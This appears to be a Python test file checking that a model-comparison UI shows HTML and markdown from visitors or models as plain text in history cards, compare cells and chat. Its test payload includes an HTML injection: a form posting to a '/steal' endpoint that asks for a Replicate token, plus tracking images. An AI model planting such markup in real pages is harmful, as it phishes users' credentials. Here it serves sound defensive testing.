"""Issue 20 item 3 beyond the shared view: History cards, Compare cells and chat show a visitor's
or a model's markup as text (no raw HTML, no images from any host); code stays code."""

from __future__ import annotations

import re

from neurolink_ui.comparison import CellView
from neurolink_ui.results import StoredResult
from neurolink_ui.ui.adapters import ChatStreamView
from neurolink_ui.ui.inert import as_text, without_html
from neurolink_ui.ui.panels.compare_cells import cell_status, chat_messages
from neurolink_ui.ui.panels.history import entry_details, entry_summary

PAYLOAD = (
    '<style>body{display:none}</style><form action="http://127.0.0.1:9/steal">'
    '<input name=token placeholder="Paste your Replicate token"></form>'
    '<img src="http://127.0.0.1:9/pixel.png"> ![p](http://127.0.0.1:9/md.png)'
)
LIVE = re.compile(r"<(style|form|input|img)\b|!\[", re.I)


def _stored() -> StoredResult:
    return StoredResult(
        id="0" * 32, kind="chat", model="openai/gpt-5", version=None, prompt=PAYLOAD,
        input={}, file_fields=(), files=(), text=PAYLOAD, notes=(PAYLOAD,),
        predict_time=None, wall_time=1.0, cold_boot=None, prediction_id="", created_at=0.0,
        share_id=None, size=0,
    )  # fmt: skip


def test_history_cards_show_markup_as_text() -> None:
    result = _stored()
    assert not LIVE.search(entry_summary(result))
    assert not LIVE.search(entry_details(result))


def test_compare_cells_and_chat_show_markup_as_text() -> None:
    view = CellView(0, "openai/gpt-5")
    view.state, view.error, view.notes, view.text = "failed", PAYLOAD, [PAYLOAD], PAYLOAD
    assert not LIVE.search(cell_status(view, hidden=False))
    view.state = "done"
    for message in chat_messages(view, PAYLOAD, hidden=False):
        assert not LIVE.search(message["content"])
    stream = ChatStreamView(model="m")
    stream.show_text("<think>" + PAYLOAD + "</think>" + PAYLOAD)
    stream.finish(1.0, 1.0)
    for message in stream.messages():
        assert not LIVE.search(message["content"].replace("<sub>", ""))


def test_code_stays_code_and_text_is_exact() -> None:
    answer = "Use `<b>` here.\n\n```html\n<div>x</div>\n```\nthen <i>"
    shown = without_html(answer)
    assert "`<b>`" in shown and "\n<div>x</div>\n" in shown and "then &lt;i>" in shown
    # A table splits its cells before reading code; a span across a `|` is not trusted.
    assert "&lt;img" in without_html("| `a | <img src=x>` |")
    assert as_text("**a** <b>") == "\\*\\*a\\*\\* &lt;b\\>"
